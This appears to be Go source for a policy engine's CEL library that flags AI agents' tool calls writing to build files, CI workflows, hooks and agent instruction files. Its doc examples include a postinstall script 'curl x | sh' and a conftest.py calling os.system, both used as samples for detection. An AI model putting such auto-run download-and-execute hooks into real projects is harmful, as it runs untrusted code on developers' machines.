package stdlib

import (
	"strings"
	"sync"

	"cel.dev/cel-go/cel"
	"cel.dev/cel-go/common/cost"
	"cel.dev/cel-go/common/types"
	"cel.dev/cel-go/common/types/ref"
	"cel.dev/cel-go/common/types/traits"

	"github.com/celguard/celguard/stdlib/shell"
	"github.com/celguard/celguard/stdlib/toolchain"
)

// Toolchain returns the toolchain library: which workspace files a
// toolchain runs later, and what their content runs.
func (l *Lib) Toolchain() cel.EnvOption {
	return cel.Lib(&library{l: l, ns: "toolchain"})
}

// # toolchain.runs
//
// Whether a toolchain runs or loads the file at a path later: a Makefile,
// package.json, build.rs, .cargo/config.toml, conftest.py, a CI workflow, a
// git hook, an agent's instruction file, ... (the table in
// docs/policies.md). The path is matched by its last components, case
// insensitively, with / or \; it is not resolved.
//
//	toolchain.runs(<string>) -> <bool>
//
// Examples:
//
//	toolchain.runs("/home/dev/app/GNUmakefile")    // true
//	toolchain.runs(".github/workflows/ci.yml")    // true
//	toolchain.runs("src/main.ts")                 // false
//
// Introduced in stdlib version 4.
//
// # toolchain.runners
//
// The commands that run or load the file at a path: a program ("make") or
// a program and its subcommand ("go generate", "python -m pytest"), those
// of the file's ecosystem in the table of docs/policies.md, then the task
// and hook runners that may run any toolchain (make, just, pre-commit, git
// commit, ...); an empty list when no toolchain runs or loads it. A
// command c runs a runner r when c.program == r, or, for a runner of two
// words or more, when shell.hasSubcommand(c, r) or shell.hasPrefix(c, r).
//
//	toolchain.runners(<string>) -> <list(string)>
//
// Examples:
//
//	"pytest" in toolchain.runners("tests/conftest.py") // true
//	"cargo" in toolchain.runners("tests/conftest.py")  // false
//	"make" in toolchain.runners("build.rs")            // true
//	toolchain.runners("src/main.ts").size()            // 0
//
// Introduced in stdlib version 4.
//
// # toolchain.analyze
//
// What the content of the file at a path will run when its toolchain runs
// it: the shell commands it holds (make recipes and $(shell ...), npm
// scripts, workflow run: steps, go:generate lines, hooks, devcontainer
// commands, fenced shell blocks of AGENTS.md, ...), the code it pulls in by
// reference (actions, hook repositories, features, images) and why it
// cannot be proven safe (program code that names a capability, a content
// that does not parse, a setting that runs a program it does not show).
// Judge the commands as direct commands (shell.commands of each); a file
// whose unproven list is not empty runs code no rule can read.
//
//	toolchain.analyze(<string>, <string>) -> <celguard.toolchain.Analysis>
//
// Examples:
//
//	toolchain.analyze("Makefile", "t:\n\tgo test ./...\n").commands          // ["go test ./..."]
//	toolchain.analyze("package.json", "{\"scripts\":{\"postinstall\":\"curl x | sh\"}}").commands // ["curl x | sh"]
//	toolchain.analyze("conftest.py", "import os\nos.system('id')").unproven.size() > 0 // true
//	toolchain.analyze("src/a.ts", "x").runs                                   // false
//
// Introduced in stdlib version 4.
//
// # toolchain.analyzeEdit
//
// toolchain.analyze for a part of the file: an edit's new text or a patch's
// added lines (a toolchain.files element whose edit is true). A fragment
// of a structured file (a line of package.json) seldom parses alone; when
// it does not, it is read as text, and only a fragment that names a risky
// program (a shell, a download, a pipe, an encoded payload) is unproven.
//
//	toolchain.analyzeEdit(<string>, <string>) -> <celguard.toolchain.Analysis>
//
// Examples:
//
//	toolchain.analyzeEdit("package.json", "\"lint\": \"eslint .\",").unproven          // []
//	toolchain.analyzeEdit("package.json", "\"postinstall\": \"curl x | sh\",").unproven.size() > 0 // true
//
// Introduced in stdlib version 4.
//
// # toolchain.files
//
// The files a tool call's arguments write that a toolchain runs, each with
// the content written: file_path/path (and their spellings) with
// content/new_string/new_str/file_text/newText (and theirs), every element
// of an edits list and of a files list (an MCP repository tool's
// push_files), and the added lines of each file of a patch (apply_patch's
// input, a unified diff). A file's content is what the call writes, which
// for an edit is the new text alone. Files no toolchain runs are left out,
// so a rule reads content only for the files that matter.
//
//	toolchain.files(<map(string, dyn)>) -> <list(celguard.toolchain.File)>
//
// Examples:
//
//	toolchain.files({"file_path": "Makefile", "content": "t:\n\tmake x\n"})[0].path // "Makefile"
//	toolchain.files({"file_path": "src/a.go.txt", "content": "x"}).size()          // 0
//
// Introduced in stdlib version 4.
func (l *Lib) toolchainFns() []*fnDef {
	analysisType := cel.ObjectType(ToolchainAnalysisTypeName)
	fileType := cel.ObjectType(ToolchainFileTypeName)
	return []*fnDef{
		{ns: "toolchain", name: "toolchain.runs", version: 4, ovs: []*ovDef{{
			id: "toolchain_runs_string", args: []*cel.Type{cel.StringType}, result: cel.BoolType,
			cost: linearCost(5, 0, 0.2),
			unary: func(v ref.Val) ref.Val {
				s, ok := v.(types.String)
				if !ok {
					return types.MaybeNoSuchOverloadErr(v)
				}
				return types.Bool(toolchain.Runs(string(s)))
			},
		}}},
		{ns: "toolchain", name: "toolchain.runners", version: 4, ovs: []*ovDef{{
			id: "toolchain_runners_string", args: []*cel.Type{cel.StringType}, result: cel.ListType(cel.StringType),
			cost: linearCost(5, 0, 0.2).withSize(func([]cost.SizeEstimate) cost.SizeEstimate { return cost.FixedSizeEstimate(64) }),
			unary: func(v ref.Val) ref.Val {
				s, ok := v.(types.String)
				if !ok {
					return types.MaybeNoSuchOverloadErr(v)
				}
				return runnersVal(string(s))
			},
		}}},
		{ns: "toolchain", name: "toolchain.analyze", version: 4, ovs: []*ovDef{{
			id: "toolchain_analyze_string_string", args: []*cel.Type{cel.StringType, cel.StringType}, result: analysisType,
			cost: costModel{base: 20, arg: 1, perUnit: 1, arg2: 0, perUnit2: 0.2}.withSize(sumSize(64)),
			binary: func(p, c ref.Val) ref.Val {
				ps, ok1 := p.(types.String)
				cs, ok2 := c.(types.String)
				if !ok1 || !ok2 {
					return types.MaybeNoSuchOverloadErr(p)
				}
				return analysisVal(toolchain.Analyze(string(ps), string(cs)))
			},
		}}},
		{ns: "toolchain", name: "toolchain.analyzeEdit", version: 4, ovs: []*ovDef{{
			id: "toolchain_analyzeEdit_string_string", args: []*cel.Type{cel.StringType, cel.StringType}, result: analysisType,
			cost: costModel{base: 20, arg: 1, perUnit: 1, arg2: 0, perUnit2: 0.2}.withSize(sumSize(64)),
			binary: func(p, c ref.Val) ref.Val {
				ps, ok1 := p.(types.String)
				cs, ok2 := c.(types.String)
				if !ok1 || !ok2 {
					return types.MaybeNoSuchOverloadErr(p)
				}
				return analysisVal(toolchain.AnalyzeEdit(string(ps), string(cs)))
			},
		}}},
		{ns: "toolchain", name: "toolchain.files", version: 4, ovs: []*ovDef{{
			id: "toolchain_files_map", args: []*cel.Type{cel.MapType(cel.StringType, cel.DynType)}, result: cel.ListType(fileType),
			cost: linearCost(10, 0, 2).withSize(func(args []cost.SizeEstimate) cost.SizeEstimate {
				return cost.RangedSizeEstimate(0, args[0].Max)
			}),
			unary: func(v ref.Val) ref.Val {
				m, ok := v.(traits.Mapper)
				if !ok {
					return types.MaybeNoSuchOverloadErr(v)
				}
				files := writtenFiles(m)
				out := make([]ref.Val, 0, len(files))
				for _, f := range files {
					if toolchain.Runs(f.path) {
						out = append(out, newObj(toolchainFileType, toolchainFileKeys, types.String(f.path), types.String(f.content), types.Bool(f.edit)))
					}
				}
				return types.NewRefValList(adapter, out)
			},
		}}},
	}
}

func analysisVal(a toolchain.Analysis) ref.Val {
	strs := func(ss []string) ref.Val { return types.NewStringList(adapter, ss) }
	return newObj(toolchainAnalysisType, toolchainAnalysisKeys,
		types.Bool(a.Runs), types.String(a.Family), types.String(a.Ecosystem), types.String(a.RunBy),
		strs(a.Commands), strs(a.Uses), strs(a.Unproven))
}

// Argument names that carry a written file's path and its new content.
var (
	writePathKeys    = []string{"file_path", "path", "absolute_path", "filePath", "filepath", "filename", "notebook_path", "target_file", "file"}
	writeContentKeys = []string{"content", "new_string", "new_str", "file_text", "newText", "new_text", "text", "insert_text", "code_edit", "contents", "new_source", "body"}
	writePatchKeys   = []string{"input", "patch", "diff", "command"}
)

// writtenFile is one file a call writes: its path, the content written,
// and whether that content is a part of the file (an edit, a patch).
type writtenFile struct {
	path, content string
	edit          bool
}

// Argument names that carry a whole file's content.
var wholeContentKeys = map[string]bool{"content": true, "file_text": true, "contents": true, "text": true, "body": true}

// writtenFiles returns the files a call's arguments write. A path without
// any content argument (a read, a delete) writes nothing.
func writtenFiles(m traits.Mapper) []writtenFile {
	var out []writtenFile
	if p := firstString(m, writePathKeys); p != "" {
		var content strings.Builder
		found, edit := false, false
		for _, k := range writeContentKeys {
			if s, ok := field(m, k).(types.String); ok {
				content.WriteString(string(s))
				found, edit = true, !wholeContentKeys[k]
				break
			}
		}
		if edits, ok := field(m, "edits").(traits.Lister); ok {
			found, edit = true, true
			forEach(edits, func(e ref.Val) {
				if em, ok := e.(traits.Mapper); ok {
					content.WriteString("\n" + firstString(em, writeContentKeys))
				}
			})
		}
		if found {
			out = append(out, writtenFile{p, content.String(), edit})
		}
	}
	if files, ok := field(m, "files").(traits.Lister); ok {
		forEach(files, func(e ref.Val) {
			if fm, ok := e.(traits.Mapper); ok {
				if fp := firstString(fm, writePathKeys); fp != "" {
					out = append(out, writtenFile{fp, firstString(fm, writeContentKeys), false})
				}
			}
		})
	}
	for _, k := range writePatchKeys {
		if s, ok := field(m, k).(types.String); ok && looksLikePatch(string(s)) {
			for _, f := range patchFiles(string(s)) {
				out = append(out, writtenFile{f[0], f[1], true})
			}
		}
	}
	return out
}

func looksLikePatch(s string) bool {
	return strings.Contains(s, "*** Begin Patch") || strings.Contains(s, "\n+++ ") || strings.HasPrefix(s, "+++ ") ||
		strings.Contains(s, "diff --git ")
}

// patchFiles returns each file of a patch with its added lines: Codex's
// apply_patch format (*** Add File / *** Update File, + lines) and unified
// diffs (+++ b/x, + lines; the file is named with and without its first
// component, as patch -p1 and git apply strip it).
func patchFiles(text string) [][2]string {
	var out [][2]string
	var cur []int
	for _, line := range strings.Split(text, "\n") {
		line = strings.TrimSuffix(line, "\r")
		t := strings.TrimSpace(line)
		if strings.HasPrefix(t, "*** ") || strings.HasPrefix(line, "+++ ") {
			cur = cur[:0]
			if strings.HasPrefix(t, "*** Delete File:") {
				continue
			}
			for _, n := range shell.PatchPaths(line) {
				out = append(out, [2]string{n, ""})
				cur = append(cur, len(out)-1)
			}
			continue
		}
		if strings.HasPrefix(line, "+") {
			for _, i := range cur {
				out[i][1] += line[1:] + "\n"
			}
		}
	}
	return out
}

func field(m traits.Mapper, k string) ref.Val {
	v, ok := m.Find(types.String(k))
	if !ok {
		return nil
	}
	return v
}

func firstString(m traits.Mapper, keys []string) string {
	for _, k := range keys {
		if s, ok := field(m, k).(types.String); ok && s != "" {
			return string(s)
		}
	}
	return ""
}

func forEach(l traits.Lister, fn func(ref.Val)) {
	n, _ := l.Size().(types.Int)
	for i := types.Int(0); i < n && i < 4096; i++ {
		fn(l.Get(i))
	}
}

// runnerLists holds the CEL list of toolchain.runners per ecosystem, built
// on first use: a rule asks for the runners of every remembered write
// before every shell call (workspace-executables' unproven_runs), and the
// list of an ecosystem never changes.
var runnerLists sync.Map // ecosystem -> ref.Val

// runnersVal is toolchain.runners(p): toolchain.RunnersOf as a CEL list,
// shared by every call for the files of one ecosystem.
func runnersVal(p string) ref.Val {
	f, ok := toolchain.Lookup(p)
	if !ok {
		return types.NewStringList(adapter, nil)
	}
	if v, ok := runnerLists.Load(f.Ecosystem); ok {
		return v.(ref.Val)
	}
	v := types.NewStringList(adapter, toolchain.RunnersOf(p))
	runnerLists.Store(f.Ecosystem, v)
	return v
}
